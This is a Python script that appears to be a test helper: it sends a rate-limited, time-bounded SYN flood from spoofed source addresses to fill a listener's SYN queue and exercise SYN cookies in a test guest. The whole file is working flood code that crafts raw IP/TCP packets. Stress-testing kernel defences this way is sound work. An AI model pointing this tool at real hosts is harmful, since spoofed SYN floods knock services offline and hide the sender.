#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""A bounded SYN flood from spoofed sources, for a test guest only.

    synflood.py --dst 198.18.0.1 --port 80 --src 198.18.0.0/15
                [--rate 1000] [--seconds 300] [--count N]

Sends SYNs from a raw socket (IP_HDRINCL, IPv4) to DST:PORT, each from a
random address of SRC and a random port, at most RATE a second, and stops
by itself after SECONDS or COUNT SYNs, whichever comes first (or on
SIGTERM). SRC must be routed where nothing answers (integration.sh routes
it to a dummy interface), so the SYN-ACKs vanish and every SYN leaves a
request in the listener's SYN queue until it is full and the kernel turns
to SYN cookies. Prints "sent N" every few seconds and at the end.
"""

import argparse
import ipaddress
import random
import signal
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def syn(src, dst, sport, dport, seq):
    """An IPv4 header (the kernel fills the checksum and id) and a TCP SYN
    with an MSS option."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02,
                      64240, 0, 0) + struct.pack("!BBH", 2, 4, 1460)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    return ip + tcp


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--src", required=True, help="spoofed source network")
    ap.add_argument("--rate", type=float, default=1000)
    ap.add_argument("--seconds", type=float, default=300)
    ap.add_argument("--count", type=int, default=0)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()

    net = ipaddress.ip_network(a.src)
    dst = socket.inet_aton(a.dst)
    base = int(net.network_address)
    span = net.num_addresses - 2
    rnd = random.Random(a.seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))

    start = time.monotonic()
    end = start + a.seconds
    sent = 0
    report = start + 5
    while not stop and (not a.count or sent < a.count):
        now = time.monotonic()
        if now >= end:
            break
        # Ahead of the rate: wait for it.
        ahead = sent / a.rate - (now - start)
        if ahead > 0.01:
            time.sleep(ahead)
            continue
        for _ in range(32):
            src = struct.pack("!I", base + 1 + rnd.randrange(span))
            try:
                s.sendto(syn(src, dst, rnd.randrange(1024, 65536), a.port,
                             rnd.getrandbits(32)), (a.dst, 0))
            except OSError as e:
                print("send: %s" % e, flush=True)
                return 1
            sent += 1
        if now >= report:
            print("sent %d" % sent, flush=True)
            report = now + 5
    print("sent %d in %.1f s" % (sent, time.monotonic() - start), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
